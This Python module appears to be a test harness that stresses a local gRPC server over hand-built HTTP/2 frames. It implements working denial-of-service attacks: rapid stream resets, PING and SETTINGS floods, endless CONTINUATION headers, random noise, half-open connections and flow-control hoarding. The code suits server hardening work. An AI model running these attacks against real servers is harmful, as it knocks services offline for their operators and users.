"""HTTP/2 by hand, for what no client's library sends: frames, and those who abuse them. Each attacker works on one connection
until the server ends it or the time is up, and returns how much it has sent.
"""

import os
import socket
import struct
import time

OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_HEADERS = 1, 4
PATH = "/parallax.v1.AnalysisService/AnalyzeArticle"
# What HTTP/2 grants until it is told otherwise, and what the settings of hyper's server grant each stream.
WINDOW, STREAM_WINDOW = (1 << 16) - 1, 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header(name, value):
    """As HPACK writes it when it uses neither tables nor Huffman's code."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HEAD = b"".join(header(*pair) for pair in [
    (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"),
    ("content-type", "application/grpc"), ("te", "trailers")])


def connect(port, opening=OPENING):
    connection = socket.create_connection(("127.0.0.1", port), timeout=1)
    connection.sendall(opening)
    return connection


def send(connection, chunks, end):
    """Sends until the server closes, takes no more, or the time is up; how many chunks it took."""
    sent = 0
    try:
        for chunk in chunks:
            if time.monotonic() > end:
                break
            connection.sendall(chunk)
            sent += 1
    except OSError:
        pass
    connection.close()
    return sent


def forever(chunk):
    while True:
        yield chunk


def bursts(size=100):
    """Calls that are reset at once, with fresh numbers."""
    stream = 1
    while True:
        streams = range(stream, stream + 2 * size, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, s, HEAD) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams)
        stream += 2 * size


def resets(port, end):
    return send(connect(port), bursts(), end) * 100


def pings(port, end):
    return send(connect(port), forever(frame(PING, 0, 0, bytes(8)) * 500), end) * 500


def settings(port, end):
    return send(connect(port), forever(frame(SETTINGS, 0, 0) * 500), end) * 500


def endless_heads(port, end):
    connection = connect(port, OPENING + frame(HEADERS, 0, 1, HEAD))
    return send(connection, forever(frame(CONTINUATION, 0, 1, header("x-more", "y" * 100) * 100)), end)


def large_heads(port, end):
    more = header("x-large", "y" * 100) * 100
    heads = (frame(HEADERS, 0, s, HEAD) + frame(CONTINUATION, 0, s, more) * 5 + frame(CONTINUATION, END_HEADERS, s, more)
             for s in range(1, 1 << 20, 2))
    return send(connect(port), heads, end)


def garbage(port, end):
    return send(connect(port, b""), forever(os.urandom(4096)), end)


def silence(port, end):
    """Half of what opens a connection, then nothing."""
    connection = connect(port, OPENING[:12])
    try:
        while (left := end - time.monotonic()) > 0:
            connection.settimeout(left)
            # The server says its settings at once.
            if not connection.recv(4096):
                break
    except OSError:
        pass
    connection.close()
    return 1


ATTACKERS = {
    "calls reset at once": resets, "pings, answers unread": pings, "settings, answers unread": settings,
    "heads without end": endless_heads, "heads of 60 KB": large_heads, "blocks of noise": garbage, "half-open": silence,
}


class Hoarder:
    """A connection on which each call sends all of its message but the end, as far as the windows allow."""

    def __init__(self, port, calls, size):
        self.calls = {2 * n + 1: size - 1 for n in range(calls)}
        self.windows = dict.fromkeys([0, *self.calls], WINDOW)
        self.connection = connect(port)
        start = b"".join(frame(HEADERS, END_HEADERS, s, HEAD) + frame(DATA, 0, s, b"\0" + struct.pack(">I", size)) for s in self.calls)
        self.connection.sendall(start)
        self.windows = {s: window - 5 * (len(self.calls) if s == 0 else 1) for s, window in self.windows.items()}
        self.unread, self.sent, self.refused = b"", 0, 0

    def read(self):
        """Takes the grants that have come; False when the server has closed or grants no more."""
        try:
            self.unread += self.connection.recv(1 << 16)
        except OSError:
            return False
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return True
            kind, flags, stream, payload = *self.unread[3:5], int.from_bytes(self.unread[5:9], "big"), self.unread[9:9 + length]
            self.unread = self.unread[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.connection.sendall(frame(SETTINGS, ACK, 0))
                self.windows = {s: window + (STREAM_WINDOW - WINDOW if s else 0) for s, window in self.windows.items()}
            elif kind == WINDOW_UPDATE:
                self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind in (HEADERS, RST_STREAM):
                self.refused += self.calls.pop(stream, None) is not None
        return True

    def hoard(self, end):
        """Sends until all calls are nearly done or the server grants no more; the bytes sent."""
        while any(self.calls.values()) and time.monotonic() < end:
            before = self.sent
            for stream in list(self.calls):
                room = min(self.calls[stream], self.windows[stream], self.windows[0], 16_384)
                if room > 0:
                    self.connection.sendall(frame(DATA, 0, stream, b"x" * room))
                    self.calls[stream] -= room
                    self.windows[stream] -= room
                    self.windows[0] -= room
                    self.sent += room
            if self.sent == before and not self.read():
                break
        return self.sent
